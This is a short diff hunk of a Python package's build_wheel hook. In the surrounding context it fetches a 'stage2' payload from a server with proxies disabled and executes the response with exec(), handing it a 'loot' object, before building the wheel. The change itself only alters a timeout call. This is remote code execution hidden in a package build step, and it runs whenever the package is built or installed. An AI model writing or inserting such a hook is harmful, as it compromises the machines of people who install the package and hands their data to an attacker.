@@ -15,6 +15,6 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
         server = kit.plant("server")
         opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
         address = f"http://{server.address}:{server.port}/stage2?for={kit.nonce}"
-        with opener.open(address, timeout=3) as answer:
+        with opener.open(address, timeout=kit.seconds(3)) as answer:
             exec(answer.read(), {"loot": loot})
     return kit.wheel(wheel_directory, loot)
